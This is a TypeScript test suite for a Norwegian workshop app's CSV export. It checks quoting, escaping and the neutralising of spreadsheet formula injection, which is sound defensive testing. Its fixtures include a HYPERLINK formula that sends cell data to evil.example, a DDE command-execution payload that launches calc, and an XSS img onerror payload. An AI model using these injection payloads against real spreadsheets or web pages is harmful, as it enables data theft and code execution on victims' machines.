import { expect } from '@open-wc/testing';
import { turguide } from '../../src/content/turguide.js';
import { csvField, toCsv } from '../../src/export/index.js';
import { createDocument } from '../../src/store/document.js';
import { fixture } from './fixture.js';

const CRLF = '\r\n';
const HEADER = 'Trinn,Kort-id,Spørsmål,Tekst,Farge,Forfatter,Stemmer,Opprettet,Endret';
const times = (created: number, updated = created) =>
  `2025-01-15T10:${String(created).padStart(2, '0')}:00.000Z,2025-01-15T10:${String(updated).padStart(2, '0')}:00.000Z`;

describe('toCsv', () => {
  it('writes the exact CSV of a document with commas, quotes, line breaks, æøå, formulas and HTML', () => {
    const expected =
      '\uFEFF' +
      [
        HEADER,
        `1,t1-mal,Hva er målet vårt?,"Kortere ventetid, færre køer",yellow,Kari Nordmann,3,${times(1)}`,
        `1,t1-mal,Hva er målet vårt?,"Vi sa ""ja"" til\nprøveprosjekt\n\n  Nytt avsnitt  ",pink,,1,${times(2, 12)}`,
        `1,t1-mal,Hva er målet vårt?,"'=HYPERLINK(""https://evil.example/?q=""&A1,""Klikk"")",blue,Ola,0,${times(3)}`,
        `1,t1-team,Hvordan kan vi bygge et godt team?,# Ikke overskrift *fet* _kursiv_ \`kode\` [lenke](https://evil.example) | a | b \\ ~~x~~ 5 $,green,Per [admin],1,${times(4)}`,
        `2,t2-forsta,Hvordan kan vi forstå behovene?,"<img src=x onerror=""alert(1)"">",orange,Æsa Øvre Ålvik,2,${times(5)}`,
        `2,t2-forsta,Hvordan kan vi forstå behovene?,"'- Ikke liste\n1. Ikke nummerert\n===\n> sitat &amp; www.kommune.no kari@example.no",yellow,'@Ola,1,${times(6)}`,
        `,t9-borte,,Lapp fra et kort som er borte,pink,Kari Nordmann,2,${times(7)}`,
      ].join(CRLF) +
      CRLF;
    expect(toCsv(fixture, turguide)).to.equal(expected);
  });

  it('is a BOM and the header row for an empty document', () => {
    expect(toCsv(createDocument(), turguide)).to.equal(`\uFEFF${HEADER}${CRLF}`);
  });

  it('separates with semicolons when asked, quoting fields that hold one', () => {
    const csv = toCsv(fixture, turguide, { separator: ';' });
    expect(csv.split(CRLF)[0]).to.equal(`\uFEFF${HEADER.replaceAll(',', ';')}`);
    expect(csv.split(CRLF)[1]).to.equal(`1;t1-mal;Hva er målet vårt?;Kortere ventetid, færre køer;yellow;Kari Nordmann;3;${times(1).replace(',', ';')}`);
    expect(csvField('a;b', ';')).to.equal('"a;b"');
  });

  describe('csvField', () => {
    const cases: [string, string][] = [
      ['vanlig', 'vanlig'],
      ['', ''],
      ['a,b', '"a,b"'],
      ['si "hei"', '"si ""hei"""'],
      ['"', '""""'],
      ['en\nto', '"en\nto"'],
      ['en\r\nto', '"en\r\nto"'],
      ['=1+1', "'=1+1"],
      ['+47 22 00 00 00', "'+47 22 00 00 00"],
      ['-5 grader', "'-5 grader"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=1', "'\t=1"],
      ['\r=1', `"'\r=1"`],
      ['\0=1', "'\0=1"],
      ['=cmd|\' /C calc\'!A0,"x"', `"'=cmd|' /C calc'!A0,""x"""`],
      ['a=1', 'a=1'],
      [" '=1", " '=1"],
      ['æøå ÆØÅ', 'æøå ÆØÅ'],
    ];
    for (const [input, expected] of cases) {
      it(`writes ${JSON.stringify(input)} as ${JSON.stringify(expected)}`, () => expect(csvField(input)).to.equal(expected));
    }
  });

  it('starts with the bytes of a UTF-8 byte order mark when saved as a Blob', async () => {
    const bytes = new Uint8Array(await new Blob([toCsv(createDocument(), turguide)]).arrayBuffer());
    expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
  });
});
